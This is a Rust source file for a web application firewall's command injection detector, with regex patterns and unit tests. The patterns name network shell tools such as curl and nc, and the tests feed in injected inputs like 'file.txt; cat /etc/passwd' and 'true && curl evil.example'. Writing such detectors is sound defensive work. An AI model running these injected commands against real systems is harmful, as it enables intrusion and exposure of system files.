//! Command injection detector (C1). Shell metacharacters adjacent to
//! command verbs, backticks, `$()`, chaining operators, and redirection.

use once_cell::sync::Lazy;
use regex::Regex;
use waf_common::model::ThreatLevel;

use crate::Detection;

fn ci_dotall(pattern: &str) -> Regex {
    Regex::new(&format!("(?is){pattern}")).expect("static command injection pattern is valid")
}

static COMMAND_VERB_ADJACENT: Lazy<Regex> = Lazy::new(|| {
    ci_dotall(
        r"[;|&]\s*(cat|ls|wget|curl|nc|netcat|bash|sh|python|perl|ping|whoami|id|uname|rm|chmod|chown)\b",
    )
});

static SUBSTITUTION: Lazy<Regex> = Lazy::new(|| ci_dotall(r"`[^`]*`|\$\([^)]*\)"));

static CHAINING: Lazy<Regex> = Lazy::new(|| ci_dotall(r"&&|\|\|"));

static REDIRECTION: Lazy<Regex> = Lazy::new(|| ci_dotall(r">\s*/dev/|>>\s*\S|<\s*/etc/"));

#[derive(Debug, Default, Clone, Copy)]
pub struct CommandInjectionDetector;

impl CommandInjectionDetector {
    pub fn new() -> Self {
        Self
    }

    pub fn has_shell_metacharacter(&self, payload: &str) -> bool {
        COMMAND_VERB_ADJACENT.is_match(payload)
    }

    pub fn has_command_substitution(&self, payload: &str) -> bool {
        SUBSTITUTION.is_match(payload)
    }

    pub fn has_command_chaining(&self, payload: &str) -> bool {
        CHAINING.is_match(payload)
    }

    pub fn has_redirection(&self, payload: &str) -> bool {
        REDIRECTION.is_match(payload)
    }

    pub fn detect(&self, payload: &str) -> Option<Detection> {
        let technique = if self.has_command_substitution(payload) {
            "command_substitution"
        } else if self.has_shell_metacharacter(payload) {
            "shell_metacharacter"
        } else if self.has_command_chaining(payload) {
            "command_chaining"
        } else if self.has_redirection(payload) {
            "redirection"
        } else {
            return None;
        };

        Some(Detection {
            threat_type: "command_injection",
            threat_level: ThreatLevel::Critical,
            technique,
            reason: format!("command injection via {technique}"),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_verb_adjacent_is_detected() {
        let d = CommandInjectionDetector::new();
        let hit = d.detect("file.txt; cat /etc/passwd").unwrap();
        assert_eq!(hit.threat_level, ThreatLevel::Critical);
    }

    #[test]
    fn backtick_substitution_is_detected() {
        let d = CommandInjectionDetector::new();
        assert!(d.has_command_substitution("`whoami`"));
        assert!(d.has_command_substitution("$(whoami)"));
    }

    #[test]
    fn chaining_operators_are_detected() {
        let d = CommandInjectionDetector::new();
        assert!(d.has_command_chaining("true && curl evil.example"));
        assert!(d.has_command_chaining("false || id"));
    }

    #[test]
    fn ordinary_query_string_is_clean() {
        let d = CommandInjectionDetector::new();
        assert!(d.detect("q=hello+world&page=2").is_none());
    }
}
